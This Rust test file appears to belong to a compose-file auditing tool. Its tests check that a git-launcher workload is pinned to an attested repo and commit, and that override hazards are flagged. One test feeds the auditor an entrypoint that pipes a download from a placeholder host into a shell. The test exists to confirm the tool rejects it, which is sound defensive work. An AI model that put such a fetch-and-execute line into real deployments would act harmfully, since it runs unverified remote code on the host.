//! Check 3 rule by rule on attested compose files (SPEC §1, check 3, items 1–4): where the
//! git-launcher config comes from, override hazards, the comparison with the reference, and
//! image-pinned deployments. Each rule has the input that breaks it. (The compose file is given
//! as attested; tests/git_launcher.rs runs the whole pipeline.)

use dstack_audit::checks::launcher::{AppSettings, AttestedCompose};
use dstack_audit::checks::workload::{check, WorkloadInputs};
use dstack_audit::compose::docker_compose::parse_compose;
use dstack_audit::reference::{parse_reference, Reference};
use dstack_audit::report::{CheckResult, Outcome, Status};
use serde_json::{json, Value};

const LAUNCHER: &str = "docker.io/example/git-launcher";
const DIGEST: &str = "1111111111111111111111111111111111111111111111111111111111111111";
const COMMIT: &str = "1d6918c65fc08f781f61f47255e91702f05278b3";
const REPO: &str = "https://github.com/example/app";

/// A launcher service reading an inline config with `lines`, plus `service_extra` (indented
/// under the service) and `top_extra` (top level).
fn yaml(lines: &[&str], service_extra: &str, top_extra: &str) -> String {
    let mut y = format!(
        "services:\n  launcher:\n    image: {LAUNCHER}@sha256:{DIGEST}\n    command: [\"/etc/git-launcher/config.conf\"]\n{service_extra}    configs:\n      - source: pin\n        target: /etc/git-launcher/config.conf\nconfigs:\n  pin:\n    content: |\n"
    );
    for l in lines {
        y.push_str(&format!("      {l}\n"));
    }
    y.push_str(top_extra);
    y
}

fn default_lines() -> Vec<String> {
    vec![format!("REPO_URL={REPO}"), format!("COMMIT_SHA={COMMIT}"), "WORK_DIR=/work".into()]
}

fn attested(yaml: &str, allowed_envs: &[&str]) -> AttestedCompose {
    AttestedCompose::attested(
        parse_compose(yaml).unwrap_or_else(|e| panic!("{e}\n{yaml}")),
        "test compose".into(),
        AppSettings {
            allowed_envs: allowed_envs.iter().map(|s| s.to_string()).collect(),
            runner: Some("docker-compose".into()),
            ..AppSettings::default()
        },
    )
}

fn reference(edit: impl FnOnce(&mut Value)) -> Reference {
    let mut r = json!({
        "schema": "dstack-audit/reference/v1",
        "launcher": {"image": LAUNCHER},
        "workload": {"repo_url": REPO, "commit_sha": COMMIT}
    });
    edit(&mut r);
    parse_reference(&serde_json::to_vec(&r).unwrap(), "ref.json").unwrap()
}

fn run(c: &AttestedCompose, r: &Reference) -> CheckResult {
    check(c, r, WorkloadInputs::default()).0
}

fn codes(r: &CheckResult, o: Outcome) -> Vec<&'static str> {
    r.findings.iter().filter(|f| f.outcome == o).map(|f| f.code.as_str()).collect()
}

fn fails_with(r: &CheckResult, code: &str) {
    assert_eq!(r.status, Status::Fail, "{r:#?}");
    assert!(codes(r, Outcome::Fail).contains(&code), "expected {code}: {r:#?}");
}

fn lines(extra: &[&str]) -> Vec<String> {
    let mut l = default_lines();
    l.extend(extra.iter().map(|s| s.to_string()));
    l
}

fn refs(l: &[String]) -> Vec<&str> {
    l.iter().map(String::as_str).collect()
}

#[test]
fn inline_config_matching_the_reference_passes() {
    let l = default_lines();
    let r = run(&attested(&yaml(&refs(&l), "", ""), &[]), &reference(|_| {}));
    assert_eq!(r.status, Status::Pass, "{r:#?}");
    assert!(r.summary.contains(COMMIT));
    assert!(codes(&r, Outcome::Pass).contains(&"launcher-config-attested"));
}

#[test]
fn without_a_workload_expectation_the_pin_is_reported_but_not_passed() {
    let l = default_lines();
    let (r, obs) = check(
        &attested(&yaml(&refs(&l), "", ""), &[]),
        &reference(|r| {
            r.as_object_mut().unwrap().remove("workload");
        }),
        WorkloadInputs::default(),
    );
    assert_eq!(r.status, Status::NotChecked, "{r:#?}");
    assert!(codes(&r, Outcome::NotChecked).contains(&"workload-expectation-missing"));
    assert_eq!(obs.commit(), Some(COMMIT));
}

#[test]
fn a_not_attested_compose_is_not_checked() {
    let r = run(&AttestedCompose::NotAttested("no quote".into()), &reference(|_| {}));
    assert_eq!(r.status, Status::NotChecked);
    assert_eq!(codes(&r, Outcome::NotChecked), ["compose-not-attested"]);
}

#[test]
fn config_supplied_by_the_host_fails() {
    let l = default_lines();
    let bind = "    volumes:\n      - ./pin.conf:/etc/git-launcher/config.conf:ro\n";
    fails_with(&run(&attested(&yaml(&refs(&l), bind, ""), &[]), &reference(|_| {})), "launcher-config-not-attested");
    let parent = "    volumes:\n      - /srv/launcher:/etc/git-launcher\n";
    fails_with(&run(&attested(&yaml(&refs(&l), parent, ""), &[]), &reference(|_| {})), "launcher-config-not-attested");
    let tmpfs = "    tmpfs:\n      - /etc/git-launcher:size=1m\n";
    fails_with(&run(&attested(&yaml(&refs(&l), tmpfs, ""), &[]), &reference(|_| {})), "launcher-config-not-attested");
    let unrelated_tmpfs = "    tmpfs: /tmp\n";
    assert_eq!(run(&attested(&yaml(&refs(&l), unrelated_tmpfs, ""), &[]), &reference(|_| {})).status, Status::Pass);
    let named = "    volumes:\n      - conf:/etc/git-launcher\n";
    fails_with(&run(&attested(&yaml(&refs(&l), named, ""), &[]), &reference(|_| {})), "launcher-config-not-attested");
    for top in ["    file: ./pin.conf\n", "    environment: PIN\n", "    external: true\n"] {
        let y = format!(
            "services:\n  launcher:\n    image: {LAUNCHER}@sha256:{DIGEST}\n    configs:\n      - source: pin\n        target: /etc/git-launcher/config.conf\nconfigs:\n  pin:\n{top}"
        );
        let r = run(&attested(&y, &[]), &reference(|_| {}));
        fails_with(&r, "launcher-config-not-attested");
        assert!(r.findings.iter().any(|f| f.message.contains("configs.pin")), "{r:#?}");
    }
}

#[test]
fn command_names_the_config_path() {
    let l = default_lines();
    let y = yaml(&refs(&l), "", "")
        .replace("command: [\"/etc/git-launcher/config.conf\"]", "command: [\"--config=/etc/app/pin.conf\"]");
    // The config is mounted at the default path, but the launcher reads /etc/app/pin.conf,
    // which nothing mounts: the pin would be inside the image, which the reference's commit
    // cannot be compared with.
    let r = run(&attested(&y, &[]), &reference(|_| {}));
    assert_eq!(r.status, Status::NotChecked, "{r:#?}");
    assert!(codes(&r, Outcome::NotChecked).contains(&"workload-commit-not-visible"));
    let r = run(&attested(&y, &[]), &reference(|r| r["workload"]["config_path"] = json!("/etc/other.conf")));
    fails_with(&r, "launcher-config-path-mismatch");
}

#[test]
fn config_inside_the_image_is_a_pin_by_digest_only() {
    let y = format!("services:\n  launcher:\n    image: {LAUNCHER}@sha256:{DIGEST}\n");
    let pinned = format!("{LAUNCHER}@sha256:{DIGEST}");
    // Nothing to compare the digest with: not checked, as for an inline config without `workload`.
    let r = run(&attested(&y, &[]), &reference(|r| r["workload"] = json!({})));
    assert_eq!(r.status, Status::NotChecked, "{r:#?}");
    assert!(codes(&r, Outcome::Pass).contains(&"workload-pin-in-image"));
    assert_eq!(codes(&r, Outcome::NotChecked), ["workload-expectation-missing"]);
    // The digest in `images`: pass; another digest: fail.
    let r = run(
        &attested(&y, &[]),
        &reference(|r| {
            r["workload"] = json!({});
            r["images"] = json!([pinned]);
        }),
    );
    assert_eq!(r.status, Status::Pass, "{r:#?}");
    let other = pinned.replace("1111", "2222");
    fails_with(
        &run(
            &attested(&y, &[]),
            &reference(|r| {
                r["workload"] = json!({});
                r["images"] = json!([other]);
            }),
        ),
        "workload-image-not-allowed",
    );
    // A commit in the reference cannot be seen inside the image.
    let r = run(&attested(&y, &[]), &reference(|r| r["images"] = json!([pinned])));
    assert!(codes(&r, Outcome::NotChecked).contains(&"workload-commit-not-visible"), "{r:#?}");
    let tagged = format!("services:\n  launcher:\n    image: {LAUNCHER}:latest\n");
    fails_with(&run(&attested(&tagged, &[]), &reference(|r| r["workload"] = json!({}))), "workload-image-not-pinned");
}

#[test]
fn the_launcher_must_run_as_itself() {
    let l = default_lines();
    let entry = "    entrypoint: [\"/bin/sh\", \"-c\", \"curl https://example.invalid/x | sh\"]\n";
    let r = run(&attested(&yaml(&refs(&l), entry, ""), &[]), &reference(|_| {}));
    fails_with(&r, "workload-override");
    assert!(r.findings.iter().any(|f| f.message.contains("services.launcher.entrypoint")), "{r:#?}");
    let y = yaml(&refs(&l), "", "").replace(
        "command: [\"/etc/git-launcher/config.conf\"]",
        "command: [\"sh\", \"-c\", \"/etc/git-launcher/config.conf\"]",
    );
    // The image's ENTRYPOINT is the launcher, so these are its arguments: three of them make it
    // refuse to start (bin/git-launcher: at most one argument).
    let r = run(&attested(&y, &[]), &reference(|_| {}));
    fails_with(&r, "launcher-not-started");
    assert!(r.findings.iter().any(|f| f.message.contains("sh -c")), "{r:#?}");
    // The launcher has no flags: two arguments refuse to start too.
    let flag = yaml(&refs(&l), "", "").replace(
        "command: [\"/etc/git-launcher/config.conf\"]",
        "command: [\"--config\", \"/etc/git-launcher/config.conf\"]",
    );
    fails_with(&run(&attested(&flag, &[]), &reference(|_| {})), "launcher-not-started");
}

#[test]
fn a_host_config_at_the_path_the_command_names_is_found_without_a_workload_section() {
    // The reference names the launcher and lists its image, but has no `workload`: the mount at
    // the path its command names still makes it a git-launcher deployment.
    let y = format!(
        "services:\n  launcher:\n    image: {LAUNCHER}@sha256:{DIGEST}\n    command: [\"/opt/pin.conf\"]\n    volumes:\n      - ./pin.conf:/opt/pin.conf:ro\n"
    );
    let r = run(
        &attested(&y, &[]),
        &reference(|r| {
            r.as_object_mut().unwrap().remove("workload");
            r["images"] = json!([format!("{LAUNCHER}@sha256:{DIGEST}")]);
        }),
    );
    fails_with(&r, "launcher-config-not-attested");
}

#[test]
fn attested_scripts_beside_the_launcher_are_flagged_for_reading() {
    let l = default_lines();
    let c = AttestedCompose::attested(
        parse_compose(&yaml(&refs(&l), "", "")).unwrap(),
        "test compose".into(),
        AppSettings {
            pre_launch_script: true,
            pre_launch_script_text: Some("echo hi\n".into()),
            init_script: true,
            init_script_texts: Some(vec!["echo init\n".into()]),
            runner: Some("docker-compose".into()),
            ..AppSettings::default()
        },
    );
    // Both are sourced as root before the services start: not passed without a pin.
    let r = run(&c, &reference(|_| {}));
    assert_eq!(r.status, Status::NotChecked, "{r:#?}");
    let open = codes(&r, Outcome::NotChecked);
    assert!(open.contains(&"pre-launch-script-not-pinned") && open.contains(&"init-script-not-pinned"), "{open:?}");
}

#[test]
fn invalid_configs_fail_with_the_parsers_code() {
    let cases: [(&[&str], &str); 7] = [
        (&["REPO_URL=https://github.com/example/app", "COMMIT_SHA=1d6918c", "WORK_DIR=/w"], "workload-commit-not-full"),
        (&["REPO_URL=https://github.com/example/app", "COMMIT_SHA=main", "WORK_DIR=/w"], "workload-commit-not-full"),
        (&["REPO_URL=https://github.com/example/app", "COMMIT_SHA=v1.2.3", "WORK_DIR=/w"], "workload-commit-not-full"),
        (&["REPO_URL=https://github.com/example/app", "WORK_DIR=/w"], "launcher-config-incomplete"),
        (
            &["REPO_URL=https://github.com/example/app", "COMMIT_SHA=1d6918c65fc08f781f61f47255e91702f05278b3"],
            "launcher-config-incomplete",
        ),
        (
            &[
                "REPO_URL=https://github.com/example/app",
                "COMMIT_SHA=1d6918c65fc08f781f61f47255e91702f05278b3",
                "WORK_DIR=/w",
                "CHILD_ENV_FILE=/run/child.env",
            ],
            "launcher-config-child-env-file",
        ),
        (
            &[
                "REPO_URL=https://github.com/example/app",
                "BRANCH=main",
                "COMMIT_SHA=1d6918c65fc08f781f61f47255e91702f05278b3",
                "WORK_DIR=/w",
            ],
            "launcher-config-invalid",
        ),
    ];
    for (l, code) in cases {
        let r = run(&attested(&yaml(l, "", ""), &[]), &reference(|_| {}));
        fails_with(&r, code);
        assert!(r.findings.iter().any(|f| f.message.contains("configs.pin.content")), "{r:#?}");
    }
}

#[test]
fn override_hazards_fail_with_their_path() {
    let l = default_lines();
    let l = refs(&l);
    let cases: Vec<(String, Vec<&str>, &str)> = vec![
        (yaml(&l, "    env_file: ./launcher.env\n", ""), vec![], "env_file"),
        (yaml(&l, "    volumes_from:\n      - helper\n", ""), vec![], "volumes_from"),
        (yaml(&l, "    environment:\n      - COMMIT_SHA=${PIN}\n", ""), vec![], "environment.COMMIT_SHA"),
        (yaml(&l, "    environment:\n      - ENTRYPOINT_SCRIPT\n", ""), vec![], "environment.ENTRYPOINT_SCRIPT"),
        (
            yaml(&l, "    environment:\n      COMMIT_SHA: 2e5b7c0f4d3a1e6b9c8d7f0a1b2c3d4e5f607182\n", ""),
            vec![],
            "ambiguous",
        ),
        (
            yaml(
                &[
                    "REPO_URL=https://github.com/example/app",
                    "COMMIT_SHA=${COMMIT:-1d6918c65fc08f781f61f47255e91702f05278b3}",
                    "WORK_DIR=/w",
                ],
                "",
                "",
            ),
            vec![],
            "${COMMIT}",
        ),
        (
            yaml(&["REPO_URL=$REPO", "COMMIT_SHA=1d6918c65fc08f781f61f47255e91702f05278b3", "WORK_DIR=/w"], "", ""),
            vec![],
            "${REPO}",
        ),
        (
            yaml(
                &[
                    "REPO_URL=https://github.com/example/app",
                    "COMMIT_SHA=1d6918c65fc08f781f61f47255e91702f05278b3",
                    "WORK_DIR=${WORK:-/work}",
                ],
                "",
                "",
            ),
            vec![],
            "${WORK}",
        ),
    ];
    for (y, envs, path) in cases {
        let r = run(&attested(&y, &envs), &reference(|_| {}));
        fails_with(&r, "workload-override");
        assert!(r.findings.iter().any(|f| f.code == "workload-override" && f.message.contains(path)), "{path}: {r:#?}");
    }
    let y = yaml(&l, "    command: [\"${CONFIG}\"]\n", "")
        .replace("    command: [\"/etc/git-launcher/config.conf\"]\n", "");
    fails_with(&run(&attested(&y, &[]), &reference(|_| {})), "workload-override");
}

#[test]
fn harmless_deploy_time_values_do_not_fail() {
    // A literal repeat of the config, `$$` as a literal dollar, a non-trust-bearing allowed
    // env. (An interpolated WORK_DIR is not harmless: see override_hazards_fail_with_their_path.)
    let l = lines(&["RUN_CMD=echo $$HOME", "INSTALL_CMD=true"]);
    let env = format!("    environment:\n      - COMMIT_SHA={COMMIT}\n      - LOG_LEVEL=${{LOG_LEVEL}}\n");
    let (r, obs) = check(
        &attested(&yaml(&refs(&l), &env, ""), &["LOG_LEVEL"]),
        &reference(|r| {
            r["workload"]["run_cmd"] = json!("echo $HOME");
            r["workload"]["install_cmd"] = json!("true");
        }),
        WorkloadInputs::default(),
    );
    assert_eq!(r.status, Status::Pass, "{r:#?}");
    assert!(codes(&r, Outcome::Note).contains(&"workload-runtime-configuration"));
    assert!(codes(&r, Outcome::Note).contains(&"allowed-env"));
    assert!(codes(&r, Outcome::Note).contains(&"workload-env-repeats-config"));
    assert!(codes(&r, Outcome::Note).contains(&"workload-advanced-mode"));
    assert_eq!(obs.config.unwrap().run_cmd.as_deref(), Some("echo $HOME"));
}

#[test]
fn every_compared_value_fails_when_it_differs() {
    let l = default_lines();
    let c = attested(&yaml(&refs(&l), "", ""), &[]);
    fails_with(
        &run(&c, &reference(|r| r["workload"]["repo_url"] = json!("https://github.com/example/app.git"))),
        "workload-repo-mismatch",
    );
    fails_with(
        &run(&c, &reference(|r| r["workload"]["commit_sha"] = json!("2e5b7c0f4d3a1e6b9c8d7f0a1b2c3d4e5f607182"))),
        "workload-commit-mismatch",
    );
    fails_with(&run(&c, &reference(|r| r["workload"]["repo_subdir"] = json!("app"))), "workload-script-mismatch");
    fails_with(
        &run(&c, &reference(|r| r["workload"]["entrypoint_script"] = json!("start.sh"))),
        "workload-script-mismatch",
    );
    fails_with(&run(&c, &reference(|r| r["workload"]["run_cmd"] = json!("make run"))), "workload-mode-mismatch");
    let adv = lines(&["RUN_CMD=make run"]);
    let c = attested(&yaml(&refs(&adv), "", ""), &[]);
    fails_with(&run(&c, &reference(|_| {})), "workload-advanced-mode-unexpected");
    fails_with(&run(&c, &reference(|r| r["workload"]["run_cmd"] = json!("make serve"))), "workload-command-mismatch");
    fails_with(
        &run(
            &c,
            &reference(|r| {
                r["workload"]["run_cmd"] = json!("make run");
                r["workload"]["install_cmd"] = json!("make deps");
            }),
        ),
        "workload-command-mismatch",
    );
    // A subdirectory and script named in both places pass.
    let sub = lines(&["REPO_SUBDIR=services/api/", "ENTRYPOINT_SCRIPT=run.sh"]);
    let r = run(
        &attested(&yaml(&refs(&sub), "", ""), &[]),
        &reference(|r| {
            r["workload"]["repo_subdir"] = json!("services/api");
            r["workload"]["entrypoint_script"] = json!("run.sh");
        }),
    );
    assert_eq!(r.status, Status::Pass, "{r:#?}");
}

#[test]
fn a_reference_expecting_a_git_launcher_fails_without_one() {
    let y = "services:\n  app:\n    image: docker.io/example/app@sha256:2222222222222222222222222222222222222222222222222222222222222222\n";
    fails_with(&run(&attested(y, &[]), &reference(|_| {})), "launcher-config-missing");
}

fn image_compose(images: &[&str]) -> String {
    let mut y = String::from("services:\n");
    for (i, image) in images.iter().enumerate() {
        y.push_str(&format!("  s{i}:\n    image: {image}\n"));
    }
    y
}

fn images_reference(list: Option<&[&str]>) -> Reference {
    let mut r = json!({"schema": "dstack-audit/reference/v1"});
    if let Some(l) = list {
        r["images"] = json!(l);
    }
    parse_reference(&serde_json::to_vec(&r).unwrap(), "ref.json").unwrap()
}

const A: &str = "docker.io/example/a@sha256:aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa";
const B: &str = "ghcr.io/example/b@sha256:bbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbb";

#[test]
fn image_pinned_deployments() {
    let c = attested(
        &image_compose(&[A, "example/a:1.0@sha256:aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa"]),
        &[],
    );
    let (r, obs) = check(&c, &images_reference(Some(&[A])), WorkloadInputs::default());
    assert_eq!(r.status, Status::Pass, "{r:#?}");
    assert_eq!(obs.images.unwrap().len(), 2);
    let r = run(&c, &images_reference(None));
    assert_eq!(r.status, Status::NotChecked, "{r:#?}");
    assert!(codes(&r, Outcome::Pass).contains(&"workload-images-pinned"));
    let c = attested(&image_compose(&[A, B]), &[]);
    let r = run(&c, &images_reference(Some(&[A])));
    fails_with(&r, "workload-image-not-allowed");
    assert!(r.findings.iter().any(|f| f.actual.as_deref() == Some(B)));
    let other_digest = B.replace("bbbb", "cccc");
    fails_with(&run(&c, &images_reference(Some(&[A, &other_digest]))), "workload-image-not-allowed");
    fails_with(
        &run(&attested(&image_compose(&[A, "ghcr.io/example/b:1.0"]), &[]), &images_reference(Some(&[A]))),
        "workload-image-not-pinned",
    );
    let built = "services:\n  app:\n    build: .\n    image: docker.io/example/a@sha256:aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa\n";
    fails_with(&run(&attested(built, &[]), &images_reference(Some(&[A]))), "workload-image-built");
    let interpolated = "services:\n  app:\n    image: docker.io/example/a@sha256:${DIGEST}\n";
    // An image chosen at deploy time makes the compose file unreadable as attested.
    assert!(parse_compose(interpolated).unwrap_err().to_string().contains("services.app.image"));
    fails_with(&run(&AttestedCompose::Unreadable("x".into()), &images_reference(Some(&[A]))), "compose-unreadable");
    let include = format!("include:\n  - other.yaml\n{}", image_compose(&[A]));
    // `include:` is read by the model alone: a file outside the attested compose.
    let r = run(&attested(&include, &[]), &images_reference(Some(&[A])));
    fails_with(&r, "workload-key-not-modelled");
    assert!(r
        .findings
        .iter()
        .any(|f| f.code == "workload-key-not-modelled" && f.message.starts_with("include (line 1)")));
    assert!(obs_images(&attested(&include, &[])).is_none());
}

fn obs_images(c: &AttestedCompose) -> Option<Vec<String>> {
    check(c, &images_reference(Some(&[A])), WorkloadInputs::default()).1.images
}

#[test]
fn the_reference_rejects_unpinned_images_and_short_commits() {
    for (r, field) in [
        (json!({"schema": "dstack-audit/reference/v1", "images": ["docker.io/example/a:1.0"]}), "images[0]"),
        (json!({"schema": "dstack-audit/reference/v1", "images": []}), "images"),
        (json!({"schema": "dstack-audit/reference/v1", "workload": {"commit_sha": "1d6918c"}}), "workload.commit_sha"),
        (
            json!({"schema": "dstack-audit/reference/v1", "workload": {"entrypoint_script": "../x.sh"}}),
            "workload.entrypoint_script",
        ),
        (json!({"schema": "dstack-audit/reference/v1", "workload": {"config_path": "conf"}}), "workload.config_path"),
    ] {
        let e = parse_reference(&serde_json::to_vec(&r).unwrap(), "ref.json").unwrap_err().to_string();
        assert!(e.contains(field) && e.contains("ref.json"), "{field}: {e}");
    }
}
